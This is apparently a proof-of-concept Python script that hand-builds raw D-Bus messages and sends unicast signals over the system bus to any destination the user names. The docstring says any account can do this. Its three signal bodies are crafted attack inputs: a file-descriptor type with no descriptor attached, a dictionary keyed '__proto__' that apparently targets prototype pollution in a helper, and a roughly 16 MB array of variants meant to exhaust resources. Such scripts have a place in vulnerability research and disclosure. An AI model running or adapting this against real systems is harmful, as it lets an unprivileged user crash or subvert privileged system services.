"""Addresses signals to a connection of the system bus, as any account may: bus-signal.py DESTINATION."""

import os
import socket
import struct
import sys


def padded(data, to):
    return data + bytes(-len(data) % to)


def string(text):
    return struct.pack("<I", len(text)) + text.encode() + b"\0"


def signature(text):
    return bytes([len(text)]) + text.encode() + b"\0"


def message(kind, serial, fields, types="", body=b""):
    if types:
        fields = [*fields, (8, "g", types)]
    packed = b""
    for code, sort, value in fields:
        packed = padded(packed, 8) + bytes([code]) + signature(sort)
        packed = packed + signature(value) if sort == "g" else padded(packed, 4) + string(value)
    return padded(struct.pack("<4B3I", ord("l"), kind, 1 if kind == 4 else 0, 1, len(body), serial, len(packed)) + packed, 8) + body


entry = string("__proto__") + signature("s")
entry = padded(entry, 4) + string("x")
BODIES = [
    # A descriptor that did not come, a name that is none of an object's own, and megabytes of small values.
    ("h", struct.pack("<I", 0)),
    ("a{sv}", padded(struct.pack("<I", len(entry)), 8) + entry),
    ("av", struct.pack("<I", 16_000_000) + b"\1y\0\0" * 4_000_000),
]

bus = socket.socket(socket.AF_UNIX)
bus.connect("/run/dbus/system_bus_socket")
bus.sendall(b"\0AUTH EXTERNAL " + str(os.getuid()).encode().hex().encode() + b"\r\n")
assert bus.recv(1000).startswith(b"OK ")
name = "org.freedesktop.DBus"
hello = [(1, "o", "/org/freedesktop/DBus"), (2, "s", name), (3, "s", "Hello"), (6, "s", name)]
bus.sendall(b"BEGIN\r\n" + message(1, 1, hello))
for serial, (types, body) in enumerate(BODIES, 2):
    to = [(1, "o", "/a"), (2, "s", "a.b"), (3, "s", "C"), (6, "s", sys.argv[1])]
    bus.sendall(message(4, serial, to, types, body))
# The bus answers in order: what came before is on its way to the helper then.
ping = [(1, "o", "/"), (2, "s", name + ".Peer"), (3, "s", "Ping"), (6, "s", name)]
bus.sendall(message(1, 9, ping))
received = b""
while b"\5\1u\0" + struct.pack("<I", 9) not in received:
    received += bus.recv(65536)
